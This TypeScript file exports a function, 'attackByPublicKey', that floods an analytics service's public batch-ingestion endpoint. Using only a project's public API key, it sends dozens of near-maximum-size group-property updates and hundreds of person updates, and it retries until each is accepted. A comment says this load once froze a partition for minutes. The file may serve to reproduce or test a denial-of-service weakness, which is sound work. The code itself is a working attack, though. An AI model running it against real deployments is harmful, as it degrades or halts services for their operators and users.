import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';

/** As many as made a partition stand still for minutes once; each is nearly as large as a record may be. */
const groupUpdates = 40;
const groupUpdateBytes = 833_000;
const personBytes = 450_000;
const personParts = 10;
const personUpdates = 500;
const retryPauseMs = 200;

/**
 * What anybody with a project's public key can send: large updates of one group, and many small ones of one large person.
 * All of it is acknowledged when this resolves.
 */
export async function attackByPublicKey(url: string, projectApiKey: string): Promise<void> {
  const strike = randomUUID();

  async function send(batch: readonly object[]): Promise<void> {
    const body = JSON.stringify({ api_key: projectApiKey, batch });
    for (;;) {
      const response = await fetch(`${url}/batch/`, {
        ...{ method: 'POST', headers: { 'content-type': 'application/json' }, body },
        signal: AbortSignal.timeout(30_000),
      }).catch(() => null);
      await response?.arrayBuffer();
      if (response?.status === 200) return;
      await sleep(retryPauseMs);
    }
  }

  const person = (set: object) => ({ event: '$set', distinct_id: strike, properties: { $set: set } });
  for (let part = 0; part < personParts; part += 1) await send([person(smallProperties(part))]);
  for (let update = 0; update < groupUpdates; update += 1) {
    const group = { $group_type: 'attacked', $group_key: strike };
    const properties = { ...group, $group_set: { [`k${update}`]: 'x'.repeat(groupUpdateBytes) } };
    await send([{ event: '$groupidentify', distinct_id: strike, properties }]);
  }
  await send(Array.from({ length: personUpdates }, (_, n) => person({ [`n${n % 7}`]: n })));
}

/** Many of them cost more, wherever they are copied, than a few large ones. */
function smallProperties(part: number): object {
  const bytesEach = 16;
  const count = Math.floor(personBytes / personParts / bytesEach);
  return Object.fromEntries(Array.from({ length: count }, (_, n) => [`p${part}${String(n).padStart(5, '0')}`, 1000]));
}
